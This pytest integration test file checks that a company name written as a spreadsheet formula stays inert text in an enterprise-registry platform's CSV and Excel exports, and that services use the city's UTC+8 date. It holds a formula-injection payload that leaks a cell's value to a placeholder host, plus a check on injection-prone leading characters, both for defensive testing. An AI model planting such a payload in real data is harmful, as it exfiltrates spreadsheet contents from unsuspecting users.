"""Exports that are safe to open, and one clock, the city's, on the real broker and database.

An enterprise whose name is a spreadsheet formula reaches the exit list and the annual report:
every CSV and workbook shows it as text and never runs it. And between 16:00 and 24:00 UTC the
city is already a day ahead: the aggregator's default `as_of`, its public disclosures, the
dashboard's today and the agency services' "today" are all the city's date by one clock.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime

import pytest
from conftest import Platform
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from support import eventually, make_uscc
from test_aggregator_views import SEALED, register

from phaseout_shared import deps

pytestmark = pytest.mark.integration
rng = random.Random(1406)
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"x")'
EVENING_UTC = datetime(2019, 6, 30, 17, 0, tzinfo=UTC)
"""17:00 UTC on 30 June is 01:00 on 1 July in the city (UTC+8)."""


async def exited_under_a_formula_name(platform: Platform) -> str:
    """A ceramics works named like a formula, its earth kiln sealed and accepted on site."""
    uscc = make_uscc(rng)
    await register(platform, "technology", "miit", uscc, district="pingshan", name=FORMULA)
    tech, h = platform.clients["technology"], platform.stack.headers("miit")
    r = await tech.post(
        f"/v1/enterprises/{uscc}/items",
        headers=h,
        json={
            "item_id": "@K-2",
            "equipment": {"kind": "kiln", "type": "earth"},
            "capacity_amount": "500000",
            "capacity_unit": "m²/a",
            "effective_on": "2019-05-06",
        },
    )
    assert r.status_code == 201, r.text
    case_id = r.json()["case_id"]
    for step, body in (
        ("sealing", {"measures": SEALED, "effective_on": "2019-06-01"}),
        ("acceptance", {"passed": True, "effective_on": "2019-06-20"}),
    ):
        r = await tech.post(f"/v1/cases/{case_id}/{step}", headers=h, json=body)
        assert r.status_code == 200, r.text

    async def listed() -> bool | None:
        r = await platform.clients["aggregator"].get(
            "/v1/exits", params={"year": 2019, "district": "pingshan"}, headers=h
        )
        return True if uscc in {row["uscc"] for row in r.json()["rows"]} else None

    await eventually(listed)
    return uscc


def row_of(sheet: Worksheet, uscc: str) -> list[object]:
    """The row of the enterprise, as cells; asserting that no cell of the sheet is a formula."""
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "no cell may be a formula"
    return next(list(row) for row in sheet.iter_rows() if row[3].value == uscc)


async def test_a_formula_name_is_text_in_every_export(platform: Platform) -> None:
    uscc = await exited_under_a_formula_name(platform)
    agg, h = platform.clients["aggregator"], platform.stack.headers("miit")
    params = {"year": 2019, "district": "pingshan"}

    r = await agg.get("/v1/exits", params={**params, "format": "xlsx"}, headers=h)
    sheet = load_workbook(io.BytesIO(r.content))["退出清单"]
    cells = row_of(sheet, uscc)
    name, item, amount = cells[2], cells[5], cells[6]
    assert name.data_type == "s" and name.value == "'" + FORMULA  # type: ignore[attr-defined]
    assert item.data_type == "s" and item.value in ("kiln", "建筑卫生陶瓷窑炉")  # type: ignore[attr-defined]
    assert amount.data_type == "n" and amount.value == 500000, "numbers stay numbers"  # type: ignore[attr-defined]

    r = await agg.get("/v1/reports/annual", params={"year": 2019, "format": "xlsx"}, headers=h)
    book = load_workbook(io.BytesIO(r.content))
    annual = row_of(book["退出清单"], uscc)
    assert annual[2].data_type == "s" and annual[2].value == "'" + FORMULA  # type: ignore[attr-defined]
    for other in ("年度总结", "信息公开", "合计"):
        assert all(c.data_type != "f" for row in book[other].iter_rows() for c in row)

    r = await agg.get("/v1/exits", params={**params, "format": "csv"}, headers=h)
    assert r.content.startswith(b"\xef\xbb\xbf"), "the Chinese CSV opens with a UTF-8 BOM"
    text = r.content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://example.invalid/?leak=""&A1,""x"")"' in text
    line = next(row for row in csv.reader(io.StringIO(text)) if row[3:4] == [uscc])
    assert line[2] == "'" + FORMULA and line[1] == "坪山区"

    r = await agg.get("/v1/exits", params={**params, "format": "csv", "lang": "en"}, headers=h)
    assert r.content.startswith(b"\xef\xbb\xbfNo."), "the English CSV opens with a BOM too"
    text = r.content.decode("utf-8-sig")
    line = next(row for row in csv.reader(io.StringIO(text)) if row[3:4] == [uscc])
    assert line[2] == "'" + FORMULA and line[1] == "Pingshan"

    r = await agg.get("/v1/reports/annual", params={"year": 2019, "format": "csv"}, headers=h)
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeff区,在册企业")
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))
        for cell in row
    )
    assert "'" + FORMULA in {c for row in csv.reader(io.StringIO(text)) for c in row}


@contextmanager
def clocks_at(platform: Platform, moment: datetime, *services: str) -> Iterator[None]:
    """The given services run on a clock stopped at `moment`, through the injected dependency."""
    for service in services:
        platform.apps[service].dependency_overrides[deps.clock] = lambda: lambda: moment
    try:
        yield
    finally:
        for service in services:
            platform.apps[service].dependency_overrides.pop(deps.clock, None)


async def test_today_is_the_city_date_when_utc_is_still_yesterday(platform: Platform) -> None:
    uscc = make_uscc(rng)
    await register(platform, "safety", "mem", uscc, district="longgang", effective_on="2019-07-01")
    safety, h = platform.clients["safety"], platform.stack.headers("mem", "longgang")
    agg, city = platform.clients["aggregator"], platform.stack.headers("miit")
    disclosure = {
        "uscc": uscc,
        "violation": "安全条件不符合国家标准",
        "order": "责令停产停业整顿",
        "publicity_from": "2019-07-01",
        "publicity_until": "2019-07-31",
        "effective_on": "2019-07-01",
    }
    await register(
        platform, "environment", "mee", uscc, district="longgang", effective_on="2019-07-01"
    )
    entry = {
        "year": 2019,
        "uscc": uscc,
        "list_kind": "daily_patrol",
        "requirements": ["按证排污"],
        "due_on": "2019-12-31",
    }
    env, mee = platform.clients["environment"], platform.stack.headers("mee", "longgang")
    with clocks_at(platform, EVENING_UTC, "aggregator", "safety", "environment"):
        r = await env.post(
            "/v1/list-entries", json={**entry, "effective_on": "2019-07-02"}, headers=mee
        )
        assert r.status_code == 422 and r.json()["detail"][0]["field"] == "effective_on"
        assert "today, 2019-07-01" in r.json()["detail"][0]["reason"]
        r = await env.post(
            "/v1/list-entries", json={**entry, "effective_on": "2019-07-01"}, headers=mee
        )
        assert r.status_code == 201, "1 July is today in the city, not a future date"
        r = await safety.post("/v1/disclosures", json=disclosure, headers=h)
        assert r.status_code == 201, r.text

        async def seen() -> dict[str, object] | None:
            r = await agg.get(f"/v1/enterprises/{uscc}", headers=city)
            return r.json() if r.status_code == 200 else None

        status = await eventually(seen)
        assert status["as_of"] == "2019-07-01", "registered today (the city's) is found today"

        async def public() -> bool | None:
            r = await agg.get("/v1/public/disclosures")
            assert r.status_code == 200
            return True if uscc in {d["uscc"] for d in r.json()} else None

        assert await eventually(public), "a disclosure opening today is public today"
        reference = (await agg.get("/dashboard/reference.json")).json()
        assert reference["clock"] == {
            "now": "2019-06-30T17:00:00+00:00",
            "today": "2019-07-01",
        }, "the dashboard's today comes from the same clock"
    r = await agg.get("/v1/public/disclosures", params={"as_of": "2019-06-30"})
    assert uscc not in {d["uscc"] for d in r.json()}, "the UTC date would have missed it"
